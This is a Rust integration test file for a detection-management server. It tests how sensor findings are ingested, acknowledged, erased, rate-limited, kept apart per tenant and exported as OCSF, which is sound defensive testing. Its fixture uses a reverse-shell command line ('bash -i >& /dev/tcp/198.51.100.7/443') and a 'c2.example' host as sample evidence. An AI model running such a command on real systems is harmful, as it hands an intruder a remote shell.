//! What sensors find, over the wire: taken once, bounded, shown to whom it concerns, seen to, and told to people on duty.

use super::support::{Held, Identity, Server, engine, enrolment, new_key, problem};
use rcgen::PublicKeyData as _;
use reqwest::{Client, Response};
use serde_json::{Value, json};
use staffel_core::{
    detection::{CREDIT, Opening, RESERVE, Severity},
    ids::DeviceId,
};
use staffel_server::{
    api::{Caller, DetectionPage, DetectionQuery, DetectionSheet, DeviceWhy, Role, TokenRequest},
    engine::Engine,
};
use staffel_trust::wire::{Detections, DetectionsNoted, Finding, Found, SensorTrouble, Severity as Level};
use std::{
    collections::{BTreeMap, BTreeSet},
    time::Duration,
};
use tokio::task::JoinHandle;

pub fn matched(number: u64, rule: &str, severity: Level) -> Finding {
    let fields = [
        ("UtcTime", "1800000000000"),
        ("Image", "/usr/bin/bash"),
        ("CommandLine", "bash -i >& /dev/tcp/198.51.100.7/443"),
        ("ProcessId", "4711"),
        ("User", "anna"),
        ("ParentImage", "/usr/sbin/nginx"),
        ("ControlGroup", "/system.slice/nginx.service"),
    ];
    Finding {
        number,
        what: Found::Match {
            rule: rule.into(),
            title: format!("Title of {rule}"),
            severity,
            class: "process_creation".into(),
            pack: "linux".into(),
            version: 7,
            tags: vec!["attack.execution".into(), "attack.t1059.004".into(), "cve.2024-1".into()],
            fields: fields.map(|(name, value)| (name.to_string(), value.to_string())).into(),
        },
        count: 2,
        first_ms: 1_800_000_000_000,
        last_ms: 1_800_000_005_000,
    }
}

pub fn trouble(number: u64, trouble: SensorTrouble) -> Finding {
    let what = Found::Sensor { trouble, severity: Level::High, detail: "signal 9 by uid 0".into() };
    Finding { number, what, count: 1, first_ms: 1_800_000_000_000, last_ms: 1_800_000_000_000 }
}

pub fn sent(findings: Vec<Finding>) -> Detections {
    Detections { stream: "0123456789abcdef".into(), findings, lost: 0 }
}

async fn post(server: &Server, device: &Client, body: &Detections) -> Response {
    device.post(server.url("/v1/detections")).json(body).send().await.unwrap()
}

async fn note(server: &Server, device: &Client, body: &Detections) -> u64 {
    let answer = post(server, device, body).await;
    assert_eq!(answer.status(), 200);
    answer.json::<DetectionsNoted>().await.unwrap().through
}

async fn page(server: &Server, client: &Client, query: &str) -> DetectionPage {
    let answer = client.get(server.url(&format!("/api/v1/detections{query}"))).send().await.unwrap();
    assert_eq!(answer.status(), 200, "{query}");
    answer.json().await.unwrap()
}

async fn sheet(server: &Server, client: &Client, id: u64) -> DetectionSheet {
    let answer = client.get(server.url(&format!("/api/v1/detections/{id}"))).send().await.unwrap();
    assert_eq!(answer.status(), 200);
    answer.json().await.unwrap()
}

fn titles(page: &DetectionPage) -> Vec<&str> {
    page.detections.iter().map(|detection| detection.title.as_str()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_sensor_found_is_noted_once_seen_to_and_opened_again() {
    let server = Server::start(|_| {}).await;
    let identity = server.device("till-1").await;
    let device = server.client(Some(&identity));
    let ann = server.operator(Role::Operator, None);
    let first =
        sent(vec![matched(1, "r1", Level::High), trouble(2, SensorTrouble::Killed), matched(3, "r1", Level::Low)]);
    assert_eq!(note(&server, &device, &first).await, 3);
    assert_eq!(note(&server, &device, &first).await, 3, "the answer may have been lost");
    let found = page(&server, &ann, "").await;
    assert_eq!((found.open.high, found.detections.len()), (2, 2));
    let one = sheet(&server, &ann, 1).await;
    assert_eq!((one.detection.count, one.detection.title.as_str(), one.evidence.len()), (4, "Title of r1", 2));
    assert_eq!((one.detection.name.as_str(), one.detection.severity), ("clinic/north/till-1", Severity::High));
    assert_eq!(one.evidence[0].fields["User"], "anna");
    let sensor = sheet(&server, &ann, 2).await.detection;
    assert_eq!((sensor.detail.as_str(), sensor.rule), ("signal 9 by uid 0", None));

    // The device's own view says it, too.
    let why: DeviceWhy = ann.get(server.url("/api/v1/devices/till-1/why")).send().await.unwrap().json().await.unwrap();
    assert_eq!((why.device.alerts.high, why.detections.open.len()), (2, 2));

    // Nobody sees to it without a word, and nobody who only looks.
    let acknowledge = |client: &Client, id: u64, body: Value| {
        client.post(server.url(&format!("/api/v1/detections/{id}/acknowledgement"))).json(&body).send()
    };
    problem(acknowledge(&ann, 1, json!({ "why": "  " })).await.unwrap(), 422).await;
    let viewer = server.operator(Role::Viewer, None);
    problem(acknowledge(&viewer, 1, json!({ "why": "mine" })).await.unwrap(), 403).await;
    problem(acknowledge(&ann, 99, json!({ "why": "x" })).await.unwrap(), 404).await;
    let seen: DetectionSheet =
        acknowledge(&ann, 1, json!({ "why": "our scanner" })).await.unwrap().json().await.unwrap();
    let said = seen.detection.acknowledged.unwrap();
    assert_eq!((said.by.as_str(), said.why.as_str(), said.quiet_until_ms), ("Operator-all", "our scanner", None));
    assert_eq!(titles(&page(&server, &ann, "").await).len(), 1, "open ones only, if nothing else is asked");
    assert_eq!(page(&server, &ann, "?state=all").await.detections[0].detection, 1, "what changed last comes first");

    // It happens again; then it is to stay quiet for an hour.
    note(&server, &device, &sent(vec![matched(4, "r1", Level::Low)])).await;
    let again = sheet(&server, &ann, 1).await;
    assert_eq!((again.detection.opened, again.history.len()), (Some(Opening::Again), 3));
    let quiet = json!({ "why": "still our scanner", "quiet_minutes": 60 });
    assert_eq!(acknowledge(&ann, 1, quiet).await.unwrap().status(), 200);
    note(&server, &device, &sent(vec![matched(5, "r1", Level::High)])).await;
    let still = sheet(&server, &ann, 1).await.detection;
    assert_eq!((still.state.as_str(), still.count), ("acknowledged", 8));
    note(&server, &device, &sent(vec![matched(6, "r1", Level::Critical)])).await;
    assert_eq!(sheet(&server, &ann, 1).await.detection.opened, Some(Opening::Worse));

    for (query, wanted) in [
        ("?severity=critical", 1),
        ("?about=sensor", 1),
        ("?about=rule&text=T1059", 1),
        ("?text=nothing", 0),
        ("?device=till-1&site=north&tenant=clinic", 2),
        ("?tenant=pharmacy", 0),
    ] {
        assert_eq!(page(&server, &ann, query).await.detections.len(), wanted, "{query}");
    }
    let first = page(&server, &ann, "?state=all&limit=1").await;
    let second = page(&server, &ann, &format!("?state=all&limit=1&before={}", first.next.unwrap())).await;
    assert_eq!((second.detections.len(), second.next), (1, None));
    let news = page(&server, &ann, &format!("?since={}", second.detections[0].position)).await;
    assert_eq!(news.detections, first.detections, "what is new since the last time");
    for query in ["?state=odd", "?severity=odd", "?about=odd", "?limit=x", "?format=odd"] {
        let asked = ann.get(server.url(&format!("/api/v1/detections{query}"))).send().await.unwrap();
        problem(asked, 400).await;
    }
    problem(ann.get(server.url("/api/v1/detections?device=till-9")).send().await.unwrap(), 404).await;
}

/// A device's alert that the server has in memory and can't write, and the device's call that waits for that.
async fn on_its_way(server: &Server, ann: &Client) -> (Held, JoinHandle<reqwest::Result<Response>>) {
    let device = server.client(Some(&server.device("till-1").await));
    // Both connections are there before the log's time counts.
    assert_eq!(device.get(server.url("/v1/board")).send().await.unwrap().status(), 200);
    assert!(page(server, ann, "").await.detections.is_empty());
    let held = server.hold_the_log();
    let url = server.url("/v1/detections");
    let noted =
        tokio::spawn(async move { device.post(url).json(&sent(vec![matched(1, "r1", Level::High)])).send().await });
    while page(server, ann, "").await.detections.is_empty() {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    (held, noted)
}

/// Memory is ahead of the disk: whoever is told of an alert must find its fields, too.
#[tokio::test(flavor = "multi_thread")]
async fn an_alert_on_its_way_to_the_disk_is_waited_for() {
    let server = Server::start(|_| {}).await;
    let ann = server.operator(Role::Operator, None);
    let (held, noted) = on_its_way(&server, &ann).await;
    let asked = ann.get(server.url("/api/v1/detections/1")).send();
    let (asked, ()) = tokio::join!(asked, held.let_go(&noted));
    let sheet: DetectionSheet = asked.unwrap().json().await.unwrap();
    assert_eq!((sheet.evidence.len(), sheet.history.len()), (1, 1));
    assert_eq!(noted.await.unwrap().unwrap().status(), 200);
}

/// The fields of an alert that is still on its way to the disk would outlive an erasure that does not wait for them.
#[tokio::test(flavor = "multi_thread")]
async fn what_is_on_its_way_to_the_disk_is_erased_too() {
    let server = Server::start(|_| {}).await;
    let ann = server.operator(Role::Operator, None);
    let (held, noted) = on_its_way(&server, &ann).await;
    let erased = ann.post(server.url("/api/v1/detections/1/erasure")).json(&json!({ "why": "anna asked" })).send();
    let (erased, ()) = tokio::join!(erased, held.let_go(&noted));
    let erased = erased.unwrap();
    assert_eq!(erased.status(), 200);
    assert_eq!(erased.json::<DetectionSheet>().await.unwrap().evidence, []);
    assert_eq!(noted.await.unwrap().unwrap().status(), 200);
    let log = server.engine.log_entries(0, 1_000).unwrap().to_string();
    assert!(!log.contains("/dev/tcp"), "the fields are gone: {log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_customers_operator_sees_and_touches_only_its_own_devices() {
    let server = Server::start(|_| {}).await;
    let clinic = server.client(Some(&server.device("till-1").await));
    let pharmacy = server.client(Some(&server.device_of("pharmacy", "desk-1").await));
    note(&server, &clinic, &sent(vec![matched(1, "r1", Level::High)])).await;
    let lost = Detections { lost: 5, ..sent(vec![matched(1, "r2", Level::Critical)]) };
    note(&server, &pharmacy, &lost).await;
    let own = server.operator(Role::Operator, Some("clinic"));
    let seen = page(&server, &own, "").await;
    assert_eq!((titles(&seen), seen.open.critical, seen.losses.lost), (vec!["Title of r1"], 0, 0));
    assert_eq!(page(&server, &own, "?tenant=pharmacy").await.detections, []);
    problem(own.get(server.url("/api/v1/detections?device=desk-1")).send().await.unwrap(), 404).await;
    for (path, body) in [("", Value::Null), ("?format=ocsf", Value::Null), ("/acknowledgement", json!({ "why": "x" }))]
    {
        let url = server.url(&format!("/api/v1/detections/2{path}"));
        let asked = if body.is_null() { own.get(url) } else { own.post(url).json(&body) };
        problem(asked.send().await.unwrap(), 404).await;
    }
    let erase = own.post(server.url("/api/v1/detections/2/erasure")).json(&json!({ "why": "x" }));
    problem(erase.send().await.unwrap(), 404).await;
    let lines = own.get(server.url("/api/v1/detections?format=ocsf-lines&state=all")).send().await.unwrap();
    let lines = lines.text().await.unwrap();
    assert!(lines.lines().count() == 1 && !lines.contains("pharmacy"), "{lines}");
    assert_eq!(page(&server, &server.operator(Role::Viewer, None), "").await.losses.lost, 5);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_no_honest_device_sends_is_refused_and_leaves_nothing_behind() {
    let server = Server::start(|config| {
        config.detections_at_once = 12;
        config.device_rate.burst = 100;
    })
    .await;
    let device = server.client(Some(&server.device("till-1").await));
    problem(post(&server, &server.client(None), &sent(Vec::new())).await, 401).await;
    let unknown = server.client(Some(&server.forge(new_key(), |_| {})));
    problem(post(&server, &unknown, &sent(Vec::new())).await, 404).await;
    let raw = |body: Vec<u8>| device.post(server.url("/v1/detections")).body(body).send();
    problem(raw(b"{\"stream\": 1}".to_vec()).await.unwrap(), 400).await;
    problem(raw(vec![b'['; 100_000]).await.unwrap(), 400).await;
    problem(raw(vec![b' '; (1 << 20) + 1]).await.unwrap(), 413).await;
    let order = sent(vec![matched(2, "a", Level::Low), matched(1, "a", Level::Low)]);
    assert!(problem(post(&server, &device, &order).await, 422).await.contains("finding 1 does not come after 2"));
    let nameless = Detections { stream: "x".repeat(65), ..sent(Vec::new()) };
    problem(post(&server, &device, &nameless).await, 422).await;
    // A sensor of a later version: what is not understood is counted, the rest is taken.
    let body = json!({ "stream": "later", "findings": [
        { "number": 1, "kind": "dream", "count": 1, "first_ms": 0, "last_ms": 0 },
        matched(2, "a\u{0}\u{1b}[2J", Level::Low),
    ] });
    let answer = device.post(server.url("/v1/detections")).json(&body).send().await.unwrap();
    assert_eq!(answer.json::<DetectionsNoted>().await.unwrap().through, 2);
    let viewer = server.operator(Role::Viewer, None);
    let found = page(&server, &viewer, "").await;
    assert_eq!((found.detections.len(), found.losses.uncounted), (1, 1));
    assert_eq!(found.detections[0].rule.as_deref(), Some("a  [2J"));
    // And nobody may deliver all the time, while it may do everything else.
    let mut refused = None;
    for _ in 0..12 {
        let answer = post(&server, &device, &sent(Vec::new())).await;
        if answer.status() == 429 {
            refused = Some(answer);
            break;
        }
    }
    let refused = refused.expect("a limit");
    assert!(refused.headers()["retry-after"].to_str().unwrap().parse::<u64>().unwrap() <= 15);
    let check_in = device.post(server.url("/v1/checkin")).json(&super::support::check_in()).send().await.unwrap();
    assert_eq!(check_in.status(), 200);
}

/// An engine alone, with one device.
async fn alone(dir: &std::path::Path) -> (Engine, DeviceId) {
    let engine = engine(dir);
    let who = Caller { name: "test".into(), role: Role::Releaser, tenant: None };
    let request = TokenRequest { tenant: "clinic".into(), site: "north".into(), hours: None };
    let token = engine.token(&who, request).await.unwrap().token;
    let key = new_key();
    let (device, ..) = engine.enrol(&enrolment(token, "till-1", &key), &key.subject_public_key_info()).await.unwrap();
    (engine, device)
}

async fn deliver(engine: &Engine, device: DeviceId, body: &Detections) -> u64 {
    let sent = serde_json::from_value(serde_json::to_value(body).unwrap()).unwrap();
    engine.detections(device, sent).await.unwrap().through
}

fn everybody() -> Caller {
    Caller { name: "ann".into(), role: Role::Operator, tenant: None }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_leaves_a_small_log_and_is_counted() {
    let dir = tempfile::tempdir().unwrap();
    let (engine, device) = alone(dir.path()).await;
    let before = engine.status().log_entries;
    let mut bytes = 0;
    let mut number = 0;
    for _ in 0..20 {
        let one = |number| {
            let mut finding = matched(number, "noise", Level::Low);
            if let Found::Match { fields, .. } = &mut finding.what {
                fields.extend((0..200).map(|n| (format!("f{n:03}"), "x".repeat(100))));
            }
            finding
        };
        let flood = sent((number + 1..=number + 256).map(one).collect());
        bytes += serde_json::to_vec(&flood).unwrap().len();
        number = deliver(&engine, device, &flood).await;
    }
    let entries = engine.log_entries(before, 1_000).unwrap();
    let kept: usize = entries.as_array().unwrap().iter().map(|entry| entry["payload"].to_string().len()).sum();
    assert!(bytes > 100 * kept && kept < 300_000, "{bytes} bytes came, {kept} bytes were kept");
    // A minute that passes in between gives one credit back.
    assert!(engine.status().log_entries - before <= 25);
    let found = engine.detection_page(&everybody(), &DetectionQuery::default()).unwrap();
    assert_eq!(found.detections[0].count, 2 * 256 * 20);
    let all_but_kept = 256 * 20 - u64::from(CREDIT - RESERVE - 1);
    assert!((all_but_kept - 5..=all_but_kept).contains(&found.losses.folded), "{}", found.losses.folded);
    // What matters more is still seen.
    deliver(&engine, device, &sent(vec![matched(number + 1, "attack", Level::Critical)])).await;
    assert_eq!(engine.detection_page(&everybody(), &DetectionQuery::default()).unwrap().open.critical, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_start_knows_everything_again_but_for_what_was_erased() {
    let dir = tempfile::tempdir().unwrap();
    let (first, device) = alone(dir.path()).await;
    let found = Detections {
        lost: 3,
        ..sent(vec![matched(1, "r1", Level::High), trouble(2, SensorTrouble::Blind), matched(9, "r2", Level::Low)])
    };
    deliver(&first, device, &found).await;
    // More deliveries than an alert remembers: what is to be erased is found in the log.
    for number in 10..18 {
        deliver(&first, device, &Detections { lost: 3, ..sent(vec![matched(number, "r1", Level::High)]) }).await;
    }
    let all = DetectionQuery { state: Some("all".into()), ..DetectionQuery::default() };
    let acknowledge = serde_json::from_value(json!({ "why": "known", "quiet_minutes": 5 })).unwrap();
    first.acknowledge_detection(&everybody(), 2, acknowledge).await.unwrap();
    let erase = serde_json::from_value(json!({ "why": "anna asked" })).unwrap();
    let sheet = first.erase_detection(&everybody(), 1, erase).await.unwrap();
    assert_eq!(sheet.evidence, []);
    let (page, sheet) = (first.detection_page(&everybody(), &all).unwrap(), first.detection(&everybody(), 2).unwrap());
    assert_eq!((page.losses.lost, page.detections.len()), (6, 3), "six of nine numbers never arrived");
    drop(first);
    let second = engine(dir.path());
    assert_eq!(second.detection_page(&everybody(), &all).unwrap(), page);
    assert_eq!(second.detection(&everybody(), 2).unwrap(), sheet);
    assert_eq!(deliver(&second, device, &found).await, 17, "it knows how far it was");
    assert_eq!(second.detection_page(&everybody(), &all).unwrap(), page);
    let entries = second.log_entries(0, 1_000).unwrap();
    assert!(!entries.to_string().contains("anna\""), "the name is gone: {entries}");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_noted_that_is_not_durable_also_when_it_comes_twice() {
    let server = Server::start(|_| {}).await;
    let device = server.client(Some(&server.device("till-1").await));
    let blocker = rusqlite::Connection::open(server.dir.path().join("engine/log.sqlite")).unwrap();
    blocker.execute_batch("BEGIN IMMEDIATE").unwrap();
    let body = sent(vec![matched(1, "r1", Level::High)]);
    let (first, second) = tokio::join!(post(&server, &device, &body), post(&server, &device, &body));
    problem(first, 503).await;
    problem(second, 503).await;
    blocker.execute_batch("ROLLBACK").unwrap();
}

/// The attribute names of OCSF 1.4.0 (schema.ocsf.io) that we use, by object. A name that is not published would be wrong.
const NAMES: [(&str, &str); 18] = [
    (
        "",
        "activity_id category_name category_uid class_name class_uid comment count device end_time evidences finding_info \
         is_alert message metadata severity severity_id start_time status status_id time type_uid",
    ),
    ("metadata", "version product profiles uid sequence logged_time"),
    ("product", "name vendor_name version"),
    (
        "finding_info",
        "analytic attacks created_time data_sources desc first_seen_time last_seen_time modified_time tags title uid",
    ),
    ("analytic", "name type type_id uid version"),
    ("attacks", "technique sub_technique"),
    ("technique", "name uid"),
    ("sub_technique", "name uid"),
    ("tags", "name value"),
    ("device", "hostname name org os type_id uid"),
    ("org", "name ou_name"),
    ("os", "name type type_id"),
    ("evidences", "data dst_endpoint file process src_endpoint"),
    ("process", "cmd_line file parent_process pid user working_directory"),
    ("file", "name path type_id"),
    ("user", "name"),
    ("src_endpoint", "ip port hostname"),
    ("dst_endpoint", "ip port hostname"),
];

/// Looks at every object below a value; those under `data` are free.
fn check_names(object: &str, value: &Value, seen: &mut BTreeSet<String>) {
    let known: BTreeMap<&str, &str> = NAMES.into();
    match value {
        Value::Array(list) => list.iter().for_each(|item| check_names(object, item, seen)),
        Value::Object(fields) if object != "data" => {
            let object = if object == "parent_process" { "process" } else { object };
            for (name, inner) in fields {
                let names = known.get(object).unwrap_or_else(|| panic!("{object} is not described"));
                assert!(names.split_whitespace().any(|known| known == name), "{object} has no {name}");
                seen.insert(name.clone());
                check_names(name, inner, seen);
            }
        }
        _ => {}
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn as_ocsf_every_name_is_published_and_what_must_be_there_is() {
    let server = Server::start(|_| {}).await;
    let device = server.client(Some(&server.device("till-1").await));
    let ann = server.operator(Role::Operator, None);
    let mut elsewhere = matched(1, "r1", Level::High);
    if let Found::Match { fields, .. } = &mut elsewhere.what {
        let more = [
            ("SourceIp", "192.0.2.1"),
            ("SourcePort", "40000"),
            ("DestinationIp", "198.51.100.7"),
            ("DestinationPort", "no port"),
            ("DestinationHostname", "c2.example"),
            ("TargetFilename", "/tmp/x/"),
            ("CurrentDirectory", "/"),
            ("ParentUser", "root"),
        ];
        fields.extend(more.map(|(name, value)| (name.to_string(), value.to_string())));
    }
    note(&server, &device, &sent(vec![elsewhere, trouble(2, SensorTrouble::Quarantined)])).await;
    let quiet = json!({ "why": "known", "quiet_minutes": 5 });
    let url = server.url("/api/v1/detections/2/acknowledgement");
    assert_eq!(ann.post(url).json(&quiet).send().await.unwrap().status(), 200);
    let lines = ann.get(server.url("/api/v1/detections?state=all&format=ocsf-lines")).send().await.unwrap();
    assert_eq!(lines.headers()["content-type"], "application/x-ndjson");
    let lines = lines.text().await.unwrap();
    let findings: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let listed: Value =
        ann.get(server.url("/api/v1/detections?state=all&format=ocsf")).send().await.unwrap().json().await.unwrap();
    assert_eq!(listed["findings"], json!(findings));
    let mut names = BTreeSet::new();
    for finding in &findings {
        check_names("", finding, &mut names);
        for name in ["activity_id", "category_uid", "class_uid", "time", "type_uid", "severity_id"] {
            assert!(finding[name].is_u64(), "{name} is required");
        }
        assert!(finding["metadata"]["version"].is_string() && finding["metadata"]["product"].is_object());
        assert!(finding["finding_info"]["uid"].is_string() && finding["device"]["type_id"].is_u64());
        assert_eq!(finding["class_uid"], 2004);
        assert_eq!(finding["type_uid"], 200_400 + finding["activity_id"].as_u64().unwrap());
    }
    assert!(names.len() > 40, "{}", names.len());
    let [sensor, rule] = &findings[..] else { panic!("{findings:?}") };
    assert_eq!((&rule["activity_id"], &rule["status_id"], &rule["severity_id"]), (&json!(1), &json!(1), &json!(4)));
    assert_eq!((&sensor["activity_id"], &sensor["status_id"]), (&json!(3), &json!(3)));
    assert_eq!(rule["finding_info"]["attacks"][0]["sub_technique"]["uid"], "T1059.004");
    let process = &rule["evidences"][0]["process"];
    assert_eq!((&process["pid"], &process["file"]["name"]), (&json!(4_711), &json!("bash")));
    assert_eq!(rule["evidences"][0]["dst_endpoint"], json!({ "ip": "198.51.100.7", "hostname": "c2.example" }));
    let rest = json!({ "ControlGroup": "/system.slice/nginx.service", "DestinationPort": "no port" });
    assert_eq!(rule["evidences"][0]["data"]["fields"], rest, "what has no place there is kept as it came");
    let one: Value =
        ann.get(server.url("/api/v1/detections/1?format=ocsf")).send().await.unwrap().json().await.unwrap();
    assert_eq!(&one, rule);
}

/// For other tests: a device that has found one thing.
pub async fn with_one(server: &Server, identity: &Identity) {
    let device = server.client(Some(identity));
    note(server, &device, &sent(vec![matched(1, "r1", Level::High)])).await;
}
